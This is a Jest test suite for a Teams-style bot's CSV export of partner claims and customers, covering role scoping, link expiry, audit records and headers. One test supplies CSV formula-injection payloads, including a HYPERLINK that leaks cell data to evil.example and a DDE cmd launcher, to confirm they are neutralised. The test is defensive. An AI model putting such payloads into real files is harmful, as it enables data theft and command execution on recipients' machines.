import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { sha256 } from '../../bot/random.ts';
import { firstBreak } from '../../domain/audit/chain.ts';
import { asked } from '../support/consent-link.ts';
import { downloadOn, exportTokenIn, fileAt, type Line } from '../support/export-link.ts';
import { claimFor, colleague, newcomer } from '../support/newcomer.ts';
import { buttonsOf, type Person, personIn, textOf } from '../support/person.ts';
import { everythingStored, recordOf } from '../support/record.ts';
import {
  AMSTERDAM,
  DAY,
  ENGINES,
  LEE,
  NOOR,
  NORTHBRIDGE,
  ROBIN,
  SAM,
  startWorld,
  TAILSPIN,
  type World,
} from '../support/world.ts';

/** A location of Northbridge's that no claim was ever made for. */
const GRONINGEN = '00000000-0000-4000-8000-000000000306';
const ROTTERDAM = '00000000-0000-4000-8000-000000000302';

const TEN_MINUTES = 10 * 60_000;

describe.each(ENGINES)('on %s', (engine) => {
  let world: World;
  let robin: Person;
  let sam: Person;
  let noor: Person;
  let lee: Person;
  beforeAll(async () => {
    world = await startWorld(engine);
    robin = personIn(world, ROBIN);
    sam = personIn(world, SAM, { name: 'Sam Norole' });
    noor = personIn(world, NOOR, { name: 'Noor Stand-In' });
    lee = personIn(world, LEE, { tenantId: TAILSPIN, name: 'Lee Tailspin' });
    for (const person of [robin, sam, noor, lee]) await person.tap('help.show');
    await world.app.drain();
  });
  afterAll(() => {
    // The days that went by brought reminders, of which other stories tell.
    world?.connector.takePosts();
    return world?.stop();
  });

  const linkFor = async (person: Person, words = 'export claims') => downloadOn(await person.say(words));
  const fileFor = async (person: Person, words?: string) => fileAt(world, await linkFor(person, words));
  /** Of somebody who sees all of Northbridge; a chat takes few messages a second, so it is somebody new. */
  const northbridgeFile = async (words?: string) => fileFor(await colleague(world), words);
  const column = (lines: readonly Line[], name: string) => lines.map((line) => line[name]);
  const idOf = async ({ tenantId, objectId }: Person) =>
    (await world.database.prisma.person.findUniqueOrThrow({ where: { tenantId_objectId: { tenantId, objectId } } })).id;

  describe('the offer', () => {
    test.each([
      ['export claims', 'Your claims as a file', 'Download'],
      ['exporteer claims', 'Your claims as a file', 'Download'],
      ['Claims exporteren!', 'Your claims as a file', 'Download'],
      ['export customers', 'Your customers as a file', 'Download'],
      ['exporteer klanten', 'Your customers as a file', 'Download'],
    ])('“%s” is answered with what will be in the file, and a way to fetch it', async (words, title, button) => {
      const card = await robin.say(words);
      expect(textOf(card)).toContain(title);
      expect(textOf(card)).toContain(`[${button}]`);
      expect(downloadOn(card)).toMatch(/^\/export\/[\w-]{43}$/);
      world.clock.advance(1_000);
    });

    test('says how much is in it and, in the reader’s zone, until when its link works', async () => {
      const at = world.clock.now();
      world.clock.set(new Date('2026-11-23T12:30:00Z'));
      const text = textOf(await noor.say('export claims'));
      expect(text).toContain('1 claim');
      expect(text).toContain('23 Nov 2026, 13:40 CET');
      world.clock.set(at);
    });

    test('speaks Dutch to who speaks it', async () => {
      const person = personIn(world, NOOR, { name: 'Noor Stand-In', locale: 'nl-NL' });
      const text = textOf(await person.say('exporteer klanten'));
      expect(text).toContain('Uw klanten als bestand');
      expect(text).toContain('1 regel');
      expect(text).toContain('[Downloaden]');
      await noor.tap('help.show');
      await world.app.drain();
    });

    test('R2: is not made to somebody without a role', async () => {
      const text = textOf(await sam.say('export claims'));
      expect(text).toContain('You need a role first');
      expect(await world.database.prisma.exportLink.count({ where: { personId: await idOf(sam) } })).toBe(0);
    });

    test('is not made in a channel, where others would press its button', async () => {
      const conversation = { id: '19:team@thread.tacv2', conversationType: 'channel', tenantId: NORTHBRIDGE };
      const before = await world.database.prisma.exportLink.count();
      await robin.post(robin.activity({ type: 'message', text: 'export claims', conversation }));
      await world.app.drain();
      const [post] = world.connector.takePosts('19:team@thread.tacv2');
      expect(JSON.stringify(post?.activity)).toContain('In your personal chat, please');
      expect(JSON.stringify(post?.activity)).not.toContain('/export/');
      expect(await world.database.prisma.exportLink.count()).toBe(before);
    });

    test('is instead a way to begin, where there is nothing to export', async () => {
      const person = await colleague(world);
      const where = { personId: await idOf(person) };
      await world.database.prisma.roleGrant.updateMany({ where, data: { scope: GRONINGEN } });
      for (const words of ['export claims', 'export customers']) {
        const card = await person.say(words);
        expect(textOf(card)).toContain('There is nothing to export yet');
        expect(buttonsOf(card)).toContain('Add customer');
      }
      expect(await world.database.prisma.exportLink.count({ where })).toBe(0);
    });

    test('is named by help', async () => {
      expect(textOf(await robin.tap('help.show'))).toContain('export claims');
    });
  });

  describe('the file of claims', () => {
    test('equals the record', async () => {
      await asked(world, robin, 'in-the-file', { name: 'Autumn, "all" of it' });
      const lines = await northbridgeFile();
      const { organisationId } = await world.database.prisma.person.findUniqueOrThrow({
        where: { id: await idOf(robin) },
      });
      const claims = await world.database.prisma.claim.findMany({
        where: { organisationId },
        orderBy: { number: 'asc' },
        include: { contacts: true, location: true, organisation: true, owner: true, engagementVersion: true },
      });
      const text = (value: unknown) => (value === null || value === undefined ? '' : String(value));
      const moment = (at: Date | null) => at?.toISOString() ?? '';
      const usd = (cents: bigint | null) => (cents === null ? '' : String(Number(cents) / 100));
      expect(lines).toEqual(
        claims.map((claim) => {
          const customer = claim.contacts.find(({ side }) => side === 'customer');
          const partner = claim.contacts.find(({ side }) => side === 'partner');
          return {
            number: text(claim.number),
            name: claim.name,
            status: claim.status,
            statusSince: moment(claim.statusAt),
            engagement: claim.engagementSlug,
            engagementVersion: text(claim.engagementVersion.version),
            organisation: claim.organisation.name,
            location: claim.location.name,
            partnerId: claim.location.partnerId,
            company: text(customer?.company),
            country: text(customer?.country),
            identifierType: claim.identifierType,
            identifierValue: claim.identifierValue,
            tenantId: text(claim.tenantId),
            customerContact: text(customer?.name),
            customerEmail: text(customer?.email),
            customerLanguage: text(customer?.language),
            ownContact: text(partner?.name),
            ownEmail: text(partner?.email),
            ownPhone: `'${partner?.phone}`,
            market: claim.market,
            dealSizeUsd: usd(claim.dealSizeCents),
            hours: text(claim.hours),
            opportunityValueUsd: usd(claim.opportunityValueCents),
            mismatchReason: text(claim.mismatchReason),
            createdAt: moment(claim.createdAt),
            consentedAt: moment(claim.consentedAt),
            deadline: moment(claim.dueAt),
            owner: claim.owner.name,
            submittedAt: moment(claim.submittedAt),
            amountUsd: usd(claim.amountCents),
          };
        }),
      );
      expect(lines.at(-1)).toMatchObject({
        name: 'Autumn, "all" of it',
        status: 'AWAITING_CONSENT',
        dealSizeUsd: '25000',
      });
    });

    test('R2: holds the claims of one’s own organisation and locations, and no others', async () => {
      const northbridge = await northbridgeFile();
      expect(new Set(column(northbridge, 'organisation'))).toEqual(new Set(['Northbridge Cloud (demo)']));
      expect(column(northbridge, 'location')).toContain('Northbridge Rotterdam');
      const brussels = await fileFor(noor);
      expect(column(brussels, 'company')).toEqual(["Margie's Travel & Events Ltd."]);
      const tailspin = await fileFor(lee);
      expect(new Set(column(tailspin, 'organisation'))).toEqual(new Set(['Tailspin Services (demo)']));
      expect(column(tailspin, 'number').filter((number) => column(northbridge, 'number').includes(number))).toEqual([]);
    });

    test('no name that somebody typed becomes a formula', async () => {
      const customer = await newcomer(world, 'formulas');
      const claim = await claimFor(robin, customer, {
        name: '=HYPERLINK("https://evil.example?"&A1,"Invoice")',
        contacts: { customerCompany: "Formulas;=cmd|'/C calc'!A0", customerName: '@SUM(1+1)*A1', partnerName: '-2+3' },
      });
      const line = (await northbridgeFile()).find(({ number }) => number === String(claim));
      expect(line).toMatchObject({
        name: '\'=HYPERLINK("https://evil.example?"&A1,"Invoice")',
        company: "Formulas;'=cmd|'/C calc'!A0",
        customerContact: "'@SUM(1+1)*A1",
        ownContact: "'-2+3",
        ownPhone: "'+31 20 555 0100",
      });
    });
  });

  describe('the file of customers', () => {
    test('R2: knows of a customer what one’s own claims say, and nothing of what others have with it', async () => {
      const woodgrove = (lines: readonly Line[]) => lines.filter(({ name }) => name === 'Woodgrove Bank N.V.');
      const common = {
        name: 'Woodgrove Bank N.V.',
        identifierType: 'domain',
        identifierValue: 'woodgrove-bank.example',
        tenantId: '00000000-0000-4000-8000-000000000121',
        country: 'NL',
        consentedSince: '',
        openClaims: '0',
      };
      expect(woodgrove(await northbridgeFile('export customers'))).toEqual([
        {
          ...common,
          organisation: 'Northbridge Cloud (demo)',
          firstClaimAt: '2026-05-07T12:00:00.000Z',
          endedClaims: '1',
        },
      ]);
      expect(woodgrove(await fileFor(lee, 'export customers'))).toEqual([
        {
          ...common,
          organisation: 'Tailspin Services (demo)',
          firstClaimAt: '2026-03-08T12:00:00.000Z',
          endedClaims: '2',
        },
      ]);
      expect(woodgrove(await fileFor(noor, 'export customers'))).toEqual([]);
    });

    test('has a line for each identifier that a claim names, with the consent and what is open', async () => {
      const customer = await newcomer(world, 'two-names');
      await claimFor(robin, customer);
      await claimFor(robin, customer, {
        identifierType: 'tenantId',
        identifierValue: customer.tenantId,
        engagements: ['Secure Identities'],
      });
      const lines = (await northbridgeFile('export customers')).filter(({ name }) => name === 'two-names');
      expect(
        lines.map(({ identifierType, identifierValue, openClaims, endedClaims }) => [
          identifierType,
          identifierValue,
          openClaims,
          endedClaims,
        ]),
      ).toEqual([
        ['domain', 'two-names.example', '1', '0'],
        ['tenantId', customer.tenantId, '1', '0'],
      ]);
      const coho = (await northbridgeFile('export customers')).find(({ name }) => name?.startsWith('Coho'));
      expect(coho).toMatchObject({ consentedSince: '2026-11-20T12:00:00.000Z', openClaims: '1' });
    });
  });

  describe('a link', () => {
    const open = (link: string, init: RequestInit = {}) => fetch(`${world.url}${link}`, init);
    let person: Person;
    beforeAll(async () => {
      person = await colleague(world);
    });

    const dead = async (link: string, init: RequestInit = {}) => {
      const response = await open(link, init);
      return { status: response.status, type: response.headers.get('content-type'), body: await response.text() };
    };
    /** What a link that never was is answered with. */
    const nothing = () => dead(`/export/${'A'.repeat(43)}`);

    test('gives a file to keep, that no cache and no search engine keeps', async () => {
      const response = await open(await linkFor(person));
      const day = world.clock.now().toISOString().slice(0, 10);
      expect(response.status).toBe(200);
      expect(Object.fromEntries(response.headers)).toMatchObject({
        'content-type': 'text/csv; charset=utf-8; header=present',
        'content-disposition': `attachment; filename="claimdesk-claims-${day}.csv"`,
        'cache-control': 'no-store',
        'x-content-type-options': 'nosniff',
        'referrer-policy': 'no-referrer',
        'x-robots-tag': 'noindex, nofollow',
      });
      const bytes = new Uint8Array(await response.arrayBuffer());
      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    });

    test('works more than once, so that what looks ahead takes nothing away, and is over after ten minutes', async () => {
      const link = await linkFor(person);
      await fileAt(world, link);
      world.clock.advance(TEN_MINUTES - 1);
      expect((await fileAt(world, link)).length).toBeGreaterThan(0);
      world.clock.advance(1);
      expect(await dead(link)).toEqual(await nothing());
    });

    test('R33: each time its file is fetched is on the record, with what and how much, and no more is', async () => {
      const link = await linkFor(person);
      const before = await recordOf(world);
      expect((await open(link, { method: 'HEAD' })).status).toBe(200);
      await nothing();
      expect(await recordOf(world)).toEqual(before);

      const chain = `export:${await idOf(person)}`;
      const earlier = (await world.app.ports.reads.audit.list(chain)).length;
      const lines = await fileAt(world, link);
      await Promise.all([fileAt(world, link), fileAt(world, link)]);
      const events = await world.app.ports.reads.audit.list(chain);
      expect(events.slice(earlier).map(({ what, facts, actor }) => ({ what, facts, actor }))).toEqual(
        Array(3).fill({
          what: 'exported',
          facts: { what: 'claims', rows: lines.length },
          actor: `person:${await idOf(person)}`,
        }),
      );
      expect(firstBreak(sha256, events)).toBeNull();
      const added = (await recordOf(world)).filter((row) => !before.includes(row));
      expect(added).toHaveLength(3);
      expect(added.filter((row) => !row.startsWith('AuditEvent'))).toEqual([]);
    });

    test('is kept as its SHA-256 alone, and stands in no answer that is kept', async () => {
      const token = exportTokenIn(await linkFor(person));
      await world.app.drain();
      const stored = await everythingStored(world);
      expect(stored).toContain(sha256(token));
      expect(stored).not.toContain(token);
    });

    test.each([
      ['empty', '/export/'],
      ['much too long', `/export/${'x'.repeat(4_000)}`],
      ['of a consent mail', '/export/consent'],
      ['with a broken escape', '/export/%E0%A4%A'],
      ['with more behind it', `/export/${'A'.repeat(43)}/claims`],
      ['a hash of a live one', '/export/hash'],
    ])('that is %s looks like every dead one', async (_what, path) => {
      let link = path;
      if (path === '/export/consent') {
        link = (await asked(world, robin, `consent-for-export-${engine}`)).link.replace('/consent/', '/export/');
      }
      if (path === '/export/hash') link = `/export/${sha256(exportTokenIn(await linkFor(person)))}`;
      expect(await dead(link)).toEqual(await nothing());
    });

    test('that is dead says so in both languages, with what to do', async () => {
      const { status, type, body } = await nothing();
      expect([status, type]).toEqual([404, 'text/html; charset=utf-8']);
      expect(body).toContain('lang="en"');
      expect(body).toContain('“export claims”');
      expect(body).toContain('lang="nl"');
      expect(body).toContain('“exporteer claims”');
      expect(await dead(`/export/${'A'.repeat(43)}`, { method: 'HEAD' })).toMatchObject({ status: 404, body: '' });
    });

    test.each(['POST', 'PUT', 'DELETE'])('takes no %s', async (method) => {
      expect((await open(await linkFor(await colleague(world)), { method })).status).toBe(405);
    });

    test('R2: is dead once its person has no role any more', async () => {
      const leaver = await colleague(world);
      const link = await linkFor(leaver);
      await fileAt(world, link);
      await world.database.prisma.roleGrant.deleteMany({ where: { personId: await idOf(leaver) } });
      expect(await dead(link)).toEqual(await nothing());
    });

    test('R2: gives what its person may see when it is opened, not what they could see before', async () => {
      const mover = await colleague(world);
      const links = [await linkFor(mover), await linkFor(mover, 'export customers')];
      const where = { personId: await idOf(mover) };
      await world.database.prisma.roleGrant.updateMany({ where, data: { scope: ROTTERDAM } });
      const [claims = [], customers = []] = await Promise.all(links.map((link) => fileAt(world, link)));
      expect(column(claims, 'location')).toEqual(['Northbridge Rotterdam']);
      expect(column(customers, 'name')).toEqual(['Woodgrove Bank N.V.']);
      // A second location adds to the first.
      const personId = where.personId;
      await world.database.prisma.roleGrant.create({
        data: { personId, role: 'incentivesAdmin', scope: AMSTERDAM, grantedAt: world.clock.now() },
      });
      const both = await fileAt(world, links[0] ?? '');
      expect(new Set(column(both, 'location'))).toEqual(new Set(['Northbridge Rotterdam', 'Northbridge Amsterdam']));
    });

    test('that is over is forgotten by the sweep, and one that works is not', async () => {
      const { prisma } = world.database;
      const old = exportTokenIn(await linkFor(person));
      world.clock.advance(TEN_MINUTES);
      const young = exportTokenIn(await linkFor(person));
      await world.app.sweep();
      const kept = (await prisma.exportLink.findMany()).map(({ tokenHash }) => tokenHash);
      expect(kept).toContain(sha256(young));
      expect(kept).not.toContain(sha256(old));
      world.clock.advance(DAY);
      await world.app.sweep();
      expect(await prisma.exportLink.count()).toBe(0);
      // What a day brings besides is no matter of these tests.
      world.connector.takePosts(person.conversationId);
    });
  });
});
